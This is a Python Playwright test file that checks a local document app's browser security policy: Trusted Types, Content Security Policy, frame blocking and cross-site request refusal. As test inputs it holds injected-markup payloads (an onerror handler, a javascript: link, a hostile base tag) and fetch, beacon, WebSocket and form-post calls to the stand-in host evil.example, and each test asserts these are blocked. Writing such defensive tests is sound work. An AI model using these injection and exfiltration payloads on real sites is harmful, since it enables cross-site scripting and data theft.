"""The page's policy in a real browser: what gets into it runs nothing, asks nobody, and stands in no other's frame."""

from __future__ import annotations

import shutil
from collections.abc import Iterator

import pytest
from playwright.sync_api import Error, Page, Route, sync_playwright

from tests.faces.web.conftest import Served

CHROMIUM = shutil.which("chromium")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
MEASURES = "announcements/integrity-measures-2566.md"


@pytest.fixture(scope="module")
def page(served: Served) -> Iterator[Page]:
    """A tab that is in, on the screen of writing."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        made = browser.new_context().new_page()
        made.set_default_timeout(30_000)
        made.goto(f"http://127.0.0.1:{served.port}/start/{served.house.sessions.token()}")
        made.goto(f"http://127.0.0.1:{served.port}/d/{MEASURES}")
        made.wait_for_selector("main[data-ready]")
        yield made
        browser.close()


def test_words_become_no_markup_and_no_program(page: Page) -> None:
    """Trusted Types: no script of ours, or put among ours, makes elements or programs of text."""
    for act in (
        "document.body.insertAdjacentHTML('beforeend', '<img>')",
        "document.querySelector('main').innerHTML = '<b>x</b>'",
        "document.createElement('script').text = 'window.caught = 1'",
        "Object.assign(document.createElement('script'), {src: '/static/api.js'})",
        "trustedTypes.createPolicy('mine', {createHTML: (one) => one})",
        "document.write('<script>window.caught = 1</script>')",
    ):
        with pytest.raises(Error):
            page.evaluate(f"() => {{ {act}; }}")
    assert page.evaluate("window.caught") is None


SMUGGLED = """() => {
  const put = (tag, more, where = document.body) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(more)) {
      try { made.setAttribute(name, value); } catch { /* refused at once */ }
    }
    where.append(made);
    return made;
  };
  put("img", { onerror: "window.caught = 1", src: "/no-such-picture.png" });
  put("style", {}, document.head).append("body { display: none }");
  put("a", { href: "javascript:window.caught = 1" }).click();
  put("base", { href: "http://evil.example/" }, document.head);
}"""


def test_what_gets_into_the_page_does_not_run(page: Page) -> None:
    """Handlers in attributes, scripts and styles without the nonce, addresses that are scripts: nothing happens."""
    page.evaluate(SMUGGLED)
    page.wait_for_timeout(300)
    assert page.evaluate("window.caught") is None
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("document.baseURI").startswith("http://127.0.0.1:")


OUTWARDS = """async () => {
  const told = new Set();
  document.addEventListener("securitypolicyviolation", (event) => told.add(event.effectiveDirective));
  const out = "http://evil.example/";
  await fetch(out).catch(() => 0);
  navigator.sendBeacon(out, "x");
  try { new WebSocket("ws://evil.example/"); } catch { /* refused at once */ }
  for (const [tag, name] of [["img", "src"], ["iframe", "src"], ["link", "href"]]) {
    const made = document.createElement(tag);
    if (tag === "link") made.rel = "stylesheet";
    made[name] = out;
    document.body.append(made);
  }
  const form = document.createElement("form");
  Object.assign(form, { action: out, method: "post" });
  document.body.append(form);
  form.submit();
  await new Promise((done) => setTimeout(done, 500));
  return [...told];
}"""


def test_nobody_else_is_asked(page: Page) -> None:
    """Pictures, data, frames, forms, sockets and styles of others are not fetched: no request leaves the machine."""
    left: list[str] = []

    def note(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    page.route("http://evil.example/**", note)
    refused = page.evaluate(OUTWARDS)
    assert left == []
    assert {"connect-src", "img-src", "frame-src", "form-action"} <= set(refused)


def test_no_page_of_ours_stands_in_a_frame(served: Served, page: Page) -> None:
    """Another site that frames a screen, to have clicks land on it, is shown nothing of it."""
    other = page.context.new_page()

    def answer(route: Route) -> None:
        address = f"http://127.0.0.1:{served.port}/"
        route.fulfill(body=f'<iframe id="it" src="{address}"></iframe>', content_type="text/html")

    other.route("http://evil.example/", answer)
    other.goto("http://evil.example/")
    other.wait_for_timeout(500)
    shown = [frame for frame in other.frames if frame != other.main_frame]
    assert all("งานของสำนักงาน" not in frame.content() for frame in shown)
    assert served.house.is_shared is False
    other.close()


INWARDS = """async (target) => {
  const json = { "X-Docgen": "1", "Content-Type": "application/json" };
  const body = JSON.stringify({ kind: "announcement", name: "จากที่อื่น" });
  const made = [];
  for (const [path, more] of [["/api/documents", {}], ["/api/new", { method: "POST", body }],
    ["/api/new", { method: "POST", headers: json, body }]]) {
    try {
      made.push(await (await fetch(target + path, { credentials: "include", ...more })).text());
    } catch {
      made.push("refused");
    }
    const { method = "GET", body } = more;
    await fetch(target + path, { mode: "no-cors", credentials: "include", method, body }).catch(() => 0);
  }
  return made;
}"""


def test_another_site_gets_in_by_no_request_of_its_own(served: Served, page: Page) -> None:
    """With the clerk's own browser, cookie and all, a hostile page writes nothing and reads nothing."""
    other = page.context.new_page()
    other.route("http://evil.example/", lambda route: route.fulfill(body="<p>hello</p>", content_type="text/html"))
    other.goto("http://evil.example/")
    target = f"http://127.0.0.1:{served.port}"
    heard = other.evaluate(INWARDS, target)
    assert heard == ["refused"] * 3
    assert not (served.house.root / "content/announcements/จากที่อื่น.md").exists()
    other.close()
